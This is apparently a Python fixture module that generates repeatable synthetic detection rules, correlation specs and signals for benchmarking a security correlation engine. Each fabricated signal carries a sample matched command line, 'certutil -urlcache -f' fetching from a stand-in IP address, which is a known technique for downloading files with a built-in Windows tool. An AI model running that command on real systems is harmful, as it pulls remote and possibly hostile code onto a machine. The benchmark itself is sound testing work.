"""What the correlation benchmark correlates: made rules and signals, the same in every run.

Rules of all four kinds, grouped as rules are (mostly by one entity, some by fields, some by both), over a few hundred
detections of which some fire far more often than others. Signals of many entities: most are heard of a few times, a
long tail of busy ones reaches the bound on what a key remembers.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import replace
from itertools import accumulate
from typing import Final

from models.entity import EntityKey
from models.finding import Analytic, Attack, EventRef, Signal
from models.records import Coordinates
from models.uids import content_uid, sha256_hex, signal_uid
from streams.correlate.conditions import Threshold
from streams.correlate.spec import CorrelationSpec

START: Final = 1_700_000_000_000
MINUTE_MS: Final = 60_000
HOURS: Final = 4
DELAY_MS: Final = 5 * MINUTE_MS
DETECTIONS: Final = 150
HOSTS: Final = 20_000
USERS: Final = 10_000
EVEN: Final = 20  # the higher, the more alike the entities are: the busiest has 1/20 of what it would have at 1
KINDS: Final = ("event_count", "value_count", "temporal", "temporal_ordered")
GROUPS: Final = (
    ("entity.host",),
    ("entity.user",),
    ("entity.host",),
    ("entity.ip",),
    ("entity.host", "TargetUserName"),
    ("entity.user",),
    ("TargetUserName", "IpAddress"),
)
TIMESPANS_MIN: Final = (5, 10, 15, 30, 60)
DOMAINS: Final = ("identity", "network", "workload")
TACTICS: Final = ("initial-access", "execution", "persistence", "credential-access", "command-and-control")


def detection(number: int) -> Analytic:
    """Return one detection rule."""
    attack = Attack(TACTICS[number % len(TACTICS)], f"T{1000 + number}")
    return Analytic(content_uid("detection", str(number)), f"Suspicious Behaviour {number}", 1, "example", 3, (attack,))


def correlations(count: int, first: int = 0, last: int = DETECTIONS) -> list[CorrelationSpec]:
    """Return so many correlation rules over the detections from `first` up to `last`."""
    source = random.Random(count + first)  # noqa: S311  # a benchmark has to be repeatable, not secret
    return [_correlation(source, number, first, last) for number in range(count)]


def _correlation(source: random.Random, number: int, first: int, last: int) -> CorrelationSpec:
    kind = KINDS[number % len(KINDS)]
    wanted = source.randint(2, 3) if kind.startswith("temporal") else source.randint(1, 2)
    rules = tuple(detection(one).uid for one in source.sample(range(first, last), wanted))
    timespan = source.choice(TIMESPANS_MIN) * MINUTE_MS
    least = wanted if kind.startswith("temporal") else source.choice((5, 10, 20))
    uid = content_uid("correlation", f"{first}/{number}")
    return CorrelationSpec(
        analytic=Analytic(uid, f"Behaviours Together {number}", 2, "example", 4, (Attack("lateral-movement"),)),
        kind=kind,
        rules=rules,
        group_by=GROUPS[number % len(GROUPS)],
        timespan=timespan,
        threshold=Threshold("gte", least),
        count_fields=("DestinationPort",) if kind == "value_count" else (),
        aliases={},
        cooldown=timespan,
        risk_threshold=60,
        investigation="Look at what ran before and after, and whether the account is used elsewhere.",
    )


def signals(count: int, seed: int = 1) -> Iterator[Signal]:
    """Yield so many signals in about the order of time, up to two minutes out of order."""
    source = random.Random(seed)  # noqa: S311  # as above
    hosts, users, detections = (_weights(number) for number in (HOSTS, USERS, DETECTIONS))
    known = [detection(number) for number in range(DETECTIONS)]
    step = HOURS * 60 * MINUTE_MS / count
    for number in range(count):
        host, user = (source.choices(range(len(w)), cum_weights=w)[0] for w in (hosts, users))
        fired = source.choices(range(DETECTIONS), cum_weights=detections)[0]
        at = START + int(number * step) - source.randrange(2 * MINUTE_MS)
        yield signal_of(known[fired], at, host, user, number, DOMAINS[fired % len(DOMAINS)])


def _weights(count: int) -> list[float]:
    return list(accumulate(1 / (rank + EVEN) for rank in range(count)))


def signal_of(analytic: Analytic, at: int, host: int, user: int, number: int, domain: str = "workload") -> Signal:
    """Return a signal as `ingest` makes them of one event of a host."""
    event = content_uid("event", str(number))
    address = f"10.{host >> 16 & 255}.{host >> 8 & 255}.{host & 255}"
    fields = {"TargetUserName": f"user{user}", "IpAddress": address, "DestinationPort": str(1024 + number % 400)}
    names = f"host:ws{host}.example.com", f"user:user{user}@example.com", f"ip:{address}"
    return Signal(
        uid=signal_uid(analytic.uid, event),
        time=at,
        analytic=analytic,
        event=EventRef(
            event, 1007, "windows", Coordinates("raw.windows", host % 12, number), sha256_hex(event.encode())
        ),
        domain=domain,
        confidence=60,
        risk=40,
        entities=tuple(EntityKey.parse(name) for name in names),
        fields=fields,
        matched=(
            ("Image", r"C:\Windows\System32\certutil.exe"),
            ("CommandLine", f"certutil -urlcache -f http://192.0.2.7/{number}"),
        ),
    )


def quiet(number: int, held: int) -> tuple[str, list[Signal]]:
    """Return an entity's key and its few signals."""
    found = [
        signal_of(detection(number % DETECTIONS + one), START + one * MINUTE_MS, number, number, number * 8 + one)
        for one in range(held)
    ]
    return f"host:ws{number}.example.com", found


def crowd(count: int) -> Iterator[Signal]:
    """Yield so many signals of one host within an hour, three detections in turn."""
    for number in range(count):
        at = START + number * (60 * MINUTE_MS // count)
        yield signal_of(detection(number % 3), at, 1, 1, number, DOMAINS[number % 3])


def about(specs: list[CorrelationSpec], detections: int) -> list[CorrelationSpec]:
    """Let every rule look at the first so many detections."""
    uids = [detection(number).uid for number in range(detections)]
    return [
        replace(spec, rules=tuple(uids[: max(1, len(spec.rules))]), group_by=("entity.host",), timespan=60 * MINUTE_MS)
        for spec in specs
    ]
